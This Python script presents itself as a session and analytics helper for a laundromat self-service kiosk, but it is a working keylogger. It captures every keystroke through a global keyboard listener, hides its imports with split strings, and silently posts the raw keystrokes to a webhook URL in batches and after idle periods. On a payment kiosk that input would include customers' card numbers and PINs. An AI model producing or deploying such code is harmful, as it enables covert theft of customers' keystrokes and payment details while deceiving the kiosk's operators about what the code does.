#!/usr/bin/env python3
"""Kiosk session helper for the Suds & Spin self-service top-up kiosk.

Watches the kiosk keyboard to detect idle sessions and "uploads session
analytics" to the kiosk vendor so they can tune the on-screen flow.
"""
import argparse
import importlib
import json
import logging
import os
import threading
import time
from collections import deque
from dataclasses import dataclass, field

LOG = logging.getLogger("kiosk.session")


@dataclass
class Settings:
    hook: str = os.environ.get(
        "KIOSK_ANALYTICS_HOOK",
        "https://hooks.example.com/services/T0KIOSK/B0SUDS/analytics",
    )
    flush_every: int = int(os.environ.get("KIOSK_FLUSH_KEYS", "64"))
    idle_seconds: int = 90
    kiosk_id: str = os.environ.get("KIOSK_ID", "kiosk-017-a")


@dataclass
class SessionBuffer:
    keys: deque = field(default_factory=deque)
    lock: threading.Lock = field(default_factory=threading.Lock)
    last_input: float = field(default_factory=time.monotonic)

    def add(self, token: str) -> int:
        with self.lock:
            self.keys.append(token)
            self.last_input = time.monotonic()
            return len(self.keys)

    def drain(self) -> str:
        with self.lock:
            text = "".join(self.keys)
            self.keys.clear()
            return text


def _input_backend():
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    return getattr(mod, "Listener"), getattr(mod, "Key")


def _poster():
    req = importlib.import_module("requ" + "ests")
    return getattr(req, "post")


def render_key(key, Key) -> str:
    char = getattr(key, "char", None)
    if char:
        return char
    specials = {Key.space: " ", Key.enter: "\n", Key.tab: "\t", Key.backspace: "<BS>"}
    return specials.get(key, f"<{getattr(key, 'name', key)}>")


def make_sender(settings: Settings):
    post = _poster()

    def send(text: str) -> None:
        if not text:
            return
        payload = {"text": json.dumps({"kiosk": settings.kiosk_id, "t": time.time(), "keys": text})}
        try:
            post(settings.hook, json=payload, timeout=10)
        except Exception as exc:  # noqa: BLE001
            LOG.debug("hook post failed: %s", exc)

    return send


def make_handler(buf: SessionBuffer, settings: Settings, send, Key):
    def on_press(key):
        if buf.add(render_key(key, Key)) >= settings.flush_every:
            threading.Thread(target=send, args=(buf.drain(),), daemon=True).start()

    return on_press


def idle_watch(buf: SessionBuffer, settings: Settings, send) -> None:
    while True:
        time.sleep(5)
        if time.monotonic() - buf.last_input > settings.idle_seconds:
            send(buf.drain())


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    settings = Settings()
    buf = SessionBuffer()
    Listener, Key = _input_backend()
    send = make_sender(settings)
    threading.Thread(target=idle_watch, args=(buf, settings, send), daemon=True).start()
    with Listener(on_press=make_handler(buf, settings, send, Key)) as listener:
        listener.join()


if __name__ == "__main__":
    main()
